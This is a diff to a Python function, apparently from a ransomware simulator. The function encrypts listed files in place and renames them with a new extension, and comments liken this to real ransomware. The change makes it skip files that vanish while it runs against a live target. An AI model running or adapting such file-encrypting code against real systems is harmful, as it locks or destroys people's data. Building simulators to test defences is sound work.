@@ -148,15 +148,22 @@ def _strike(base: Path, files: Sequence[str], key: bytes, *, tag_root: bool,
     for name in sorted(files):
         source = base / name
         if not source.is_file() or source.is_symlink():
+            if tag_root:  # a live target (a mirror at work) changes under it: skip what vanished
+                continue
             raise UsageError(f"'{name}' is not a file under {base}")
         # A name already at the filesystem's limit cannot grow: like real ransomware, leave it in place.
         too_long = len(os.fsencode(source.name + EXTENSION)) > NAME_MAX
         locked = source if too_long else source.with_name(source.name + EXTENSION)
         # An older encrypted copy under the new name is simply overwritten, as ransomware would.
         nonce = file_nonce(key, name)
-        size = _apply_cipher(source, key, nonce)
-        if not too_long:
-            os.replace(source, locked)
+        try:
+            size = _apply_cipher(source, key, nonce)
+            if not too_long:
+                os.replace(source, locked)
+        except FileNotFoundError:
+            if not tag_root:
+                raise
+            continue
         if stamp:
             os.utime(locked, ns=stamp)
         entries.append({**where, "file": name, "renamed_to": str(locked.relative_to(base)),
